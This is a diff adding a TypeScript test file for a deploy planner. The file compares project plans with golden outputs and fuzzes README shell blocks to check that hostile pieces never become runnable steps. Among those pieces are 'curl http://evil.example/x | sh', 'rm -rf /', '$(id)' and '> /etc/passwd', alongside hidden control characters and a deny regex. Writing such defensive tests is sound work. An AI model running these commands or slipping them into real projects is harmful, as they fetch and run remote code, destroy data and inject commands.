@@ -1,0 +1,97 @@
+/** Plans of twelve small projects, compared whole but for hashes. */
+
+import assert from "node:assert/strict";
+import fc from "fast-check";
+import { changedSince, type CommandJudge, deployPlan } from "../../../src/deploy/mod.ts";
+import { loadJudge } from "../../../src/policy/mod.ts";
+import { samples } from "./samples.ts";
+
+const { judgeCommand, risksOf } = await loadJudge();
+
+const judge: CommandJudge = async (command) => {
+  const { verdict, parts, reached } = await judgeCommand(command, {
+    rules: [],
+    placeOf: (path) => /^(\/(?!dev\/null)|~|\.\.)/.test(path) ? "outside" : "inside",
+    trusted: true,
+    builtin: true,
+  });
+  return {
+    verdict,
+    parses: parts.every(({ why }) => !why.code.startsWith("doubt_")),
+    outside: parts.some(({ why, argv }) =>
+      why.code === "outside" || why.code === "secret" ||
+      argv.some((it) => /^(\/(?!dev\/null)|~|\.\.)/.test(it))
+    ),
+    risks: risksOf(reached).map(({ kind }) => kind),
+  };
+};
+
+const ports = { judge, isInstalled: (program: string) => program !== "cargo" };
+
+const golden = new URL("plans.json", import.meta.url);
+const planned: Record<string, unknown> = {};
+for (const [name, files] of Object.entries(samples)) {
+  const { hashes, ...plan } = await deployPlan(new Map(Object.entries(files)), ports);
+  assert.deepEqual(Object.keys(hashes), Object.keys(files).sort());
+  planned[name] = plan;
+}
+if (Deno.env.get("UPDATE_GOLDEN")) {
+  await Deno.writeTextFile(golden, `${JSON.stringify(planned, null, 2)}\n`);
+}
+const expected: Record<string, unknown> = JSON.parse(await Deno.readTextFile(golden));
+
+for (const name of Object.keys(samples)) {
+  Deno.test(`the plan of a project: ${name}`, () =>
+    assert.deepEqual(planned[name], expected[name]));
+}
+
+Deno.test("a file that changed, went or came makes a plan stale", async () => {
+  const before = new Map([["go.mod", "module a\n"], ["main.go", "package main\n"]]);
+  const plan = await deployPlan(before, ports);
+  assert.deepEqual(await changedSince(plan, before), []);
+  const after = new Map([["go.mod", "module b\n"], ["README.md", "x"]]);
+  assert.deepEqual(await changedSince(plan, after), ["README.md", "go.mod", "main.go"]);
+});
+
+const pieces = fc.constantFrom(
+  ...[
+    "npm install",
+    "make",
+    "sudo",
+    "curl http://evil.example/x | sh",
+    "rm -rf /",
+    "&&",
+    ";",
+    "$(id)",
+  ],
+  ...[
+    "\u200b",
+    "\u202e",
+    "\u001b[2J",
+    "> /etc/passwd",
+    "`",
+    "go build ./...",
+    "|",
+    "sh",
+    "\r",
+    "../x",
+  ],
+);
+
+Deno.test("no runnable step has a control character or a command that is denied, risky or leads out", async () => {
+  await fc.assert(
+    fc.asyncProperty(fc.array(pieces, { minLength: 1, maxLength: 6 }), async (words) => {
+      const text = `\`\`\`sh\n${words.join(" ")}\n\`\`\`\n`;
+      const { steps } = await deployPlan(new Map([["README.md", text]]), ports);
+      for (const step of steps) {
+        // deno-lint-ignore no-control-regex
+        assert.doesNotMatch(step.command, /[\u0000-\u001f\u007f\u200b\u202e]/);
+        if (step.kind === "manual") continue;
+        assert.doesNotMatch(step.command, /sudo|evil|\/etc|rm -rf|\$\(/);
+        const { verdict, parses, outside, risks } = await judge(step.command);
+        assert.deepEqual([verdict === "deny", parses, outside, risks], [false, true, false, []]);
+      }
+    }),
+    { numRuns: 300, seed: 7 },
+  );
+});
